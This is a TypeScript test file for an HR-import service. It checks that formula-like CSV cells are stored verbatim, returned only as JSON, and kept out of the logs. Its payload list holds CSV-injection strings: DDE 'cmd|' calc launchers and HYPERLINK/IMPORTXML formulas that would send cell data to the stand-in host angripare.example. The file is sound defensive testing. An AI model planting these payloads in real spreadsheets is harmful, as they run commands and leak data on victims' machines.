// CSV injection (OWASP "CSV Injection", CWE-1236): HR exports are made by people, and a cell
// starting with =, +, -, @, tab or CR becomes a formula when a spreadsheet opens a CSV. behorig
// takes such cells as plain data: it never evaluates them, stores them as they were sent and
// never writes them to its logs (log lines carry ids and counts, not cell contents).
//
// behorig produces no CSV at all (no export, no quarantine download; the last test below
// fails when a route starts to offer text/csv, which must then prefix risky cells with `'`).
// Every representation of imported data is JSON, where these values are inert strings; the
// tests assert they come back verbatim, as strings.
import t from 'tap'
import { Writable } from 'node:stream'
import { adminHeaders, buildTestApp, openTestStore } from '../helpers/app.js'
import { createHrSource, importAndWait } from '../helpers/sync.js'

const PAYLOADS = [
  "=cmd|' /C calc'!A0",
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=cmd|' /C calc'!A0",
  "\r=cmd|' /C calc'!A0",
  '=HYPERLINK("https://angripare.example/?d="&A1;"Klicka här")',
  '=IMPORTXML(CONCAT("https://angripare.example/?";B2);"//a")'
]
/** Substrings that only the payloads contain: none may appear in any log line. */
const MARKERS = ["calc'!A0", 'cmd|', 'HYPERLINK', 'IMPORTXML', 'angripare.example', 'SUM(1+1)']

const COLUMNS = ['employee_number', 'given_name', 'family_name', 'unit_id', 'unit_name', 'position_code', 'title', 'employment_type', 'start_date', 'extent']

/** RFC 4180 quoting: every field quoted, quotes doubled, so tabs, CRs and separators stay inside the cell. */
function csvOf (rows: Array<Record<string, string>>): string {
  const quote = (value: string): string => `"${value.replace(/"/g, '""')}"`
  return [COLUMNS.join(';'), ...rows.map((row) => COLUMNS.map((c) => quote(row[c] ?? '')).join(';'))].join('\r\n') + '\r\n'
}

let logs = ''
const logStream = new Writable({ write (chunk: Buffer, _enc, done) { logs += chunk.toString(); done() } })
const store = await openTestStore()
const { app, createOrganisation } = await buildTestApp(store, { LOG_LEVEL: 'trace' }, { logStream })

const org = await createOrganisation('Formelkommun')
await createHrSource(app, org, 'hr', { max_end_percent: 100 })
const rows = PAYLOADS.map((payload, i) => ({
  employee_number: payload,
  given_name: payload,
  family_name: `${payload} Svensson`,
  unit_id: `enhet-${i}`,
  unit_name: payload,
  position_code: '151010',
  title: payload,
  employment_type: 'tillsvidare',
  start_date: '2021-03-01',
  extent: '100'
}))
// One row that is quarantined: its employment type is a formula, not one of the five types.
const quarantinedRow = { ...rows[0]!, employee_number: 'Q-1', given_name: 'Karantän', family_name: 'Person', employment_type: PAYLOADS[3]! }
const run = await importAndWait(app, org, csvOf([...rows, quarantinedRow]))

t.test('the import takes formula-looking cells as data', async (t) => {
  t.equal(run.state, 'succeeded', JSON.stringify(run.error ?? null))
  t.match(run.counts, { created: PAYLOADS.length, quarantined: 1 })
})

t.test('names, titles and employee numbers come back verbatim, as JSON strings', async (t) => {
  const res = await app.inject({ method: 'GET', url: `/v1/organisations/${org}/people?limit=500`, headers: adminHeaders })
  t.equal(res.statusCode, 200)
  t.match(res.headers['content-type'], /^application\/json/)
  const people = res.json().items as Array<{ employee_number: string, given_name: string, family_name: string, employments: Array<{ title: string, unit_id: string }> }>
  t.equal(people.length, PAYLOADS.length)
  for (const [i, payload] of PAYLOADS.entries()) {
    const person = people.find((p) => p.employee_number === payload)
    t.ok(person, `employee number ${JSON.stringify(payload)} stored as sent`)
    if (!person) continue
    t.equal(person.given_name, payload, 'given name')
    t.equal(person.family_name, `${payload} Svensson`, 'family name')
    t.equal(person.employments.length, 1)
    t.equal(person.employments[0]?.title, payload, 'title')
    t.equal(person.employments[0]?.unit_id, `enhet-${i}`)
  }
  // Looking a person up by such a number works like any other value.
  const one = await app.inject({ method: 'GET', url: `/v1/organisations/${org}/people?employee_number=${encodeURIComponent(PAYLOADS[1]!)}`, headers: adminHeaders })
  t.same(one.json().items.map((p: { given_name: string }) => p.given_name), [PAYLOADS[1]])
})

t.test('unit names come back verbatim', async (t) => {
  const res = await app.inject({ method: 'GET', url: `/v1/organisations/${org}/units?limit=500`, headers: adminHeaders })
  t.equal(res.statusCode, 200)
  const units = res.json().items as Array<{ id: string, name: string }>
  for (const [i, payload] of PAYLOADS.entries()) t.equal(units.find((u) => u.id === `enhet-${i}`)?.name, payload, `unit enhet-${i}`)
})

t.test('a quarantined row keeps the formula as data in its raw record', async (t) => {
  const res = await app.inject({ method: 'GET', url: `/v1/organisations/${org}/sync-runs/${run.id as string}/quarantine`, headers: adminHeaders })
  t.equal(res.statusCode, 200)
  t.match(res.headers['content-type'], /^application\/json/)
  const items = res.json().items as Array<{ pointer: string, raw?: Record<string, unknown>, problems: Array<{ pointer: string }> }>
  t.equal(items.length, 1)
  t.equal(items[0]?.raw?.['employment_type'], PAYLOADS[3], 'the raw record carries the cell verbatim')
  t.equal(items[0]?.raw?.['title'], PAYLOADS[0])
})

t.test('no log line carries a cell value', async (t) => {
  t.ok(logs.length > 1000, 'the import and the reads were logged (level trace)')
  for (const marker of MARKERS) t.notOk(logs.includes(marker), `${marker} is not in the log`)
  for (const payload of PAYLOADS) {
    t.notOk(logs.includes(payload) || logs.includes(JSON.stringify(payload).slice(1, -1)), `${JSON.stringify(payload.slice(0, 8))}… is not in the log`)
  }
  t.notOk(logs.includes('Karantän'), 'nor the name on the quarantined row')
})

t.test('no route produces CSV, so there is nothing to escape with a leading quote', async (t) => {
  const paths = (app.swagger() as { paths: Record<string, Record<string, { responses?: Record<string, { content?: Record<string, unknown> }> }>> }).paths
  const csvOutputs: string[] = []
  for (const [path, operations] of Object.entries(paths)) {
    for (const [method, operation] of Object.entries(operations)) {
      for (const response of Object.values(operation.responses ?? {})) {
        if (Object.keys(response.content ?? {}).some((type) => /csv/i.test(type))) csvOutputs.push(`${method.toUpperCase()} ${path}`)
      }
    }
  }
  t.ok(Object.keys(paths).length > 20, 'the OpenAPI document lists the routes')
  t.same(csvOutputs, [], 'a route that starts to produce CSV must escape =, +, -, @, tab and CR cells with a leading \' (OWASP) and be tested here')
  // Asking for CSV does not produce it either.
  const res = await app.inject({ method: 'GET', url: `/v1/organisations/${org}/people`, headers: { ...adminHeaders, accept: 'text/csv' } })
  t.notMatch(String(res.headers['content-type']), /csv/)
})
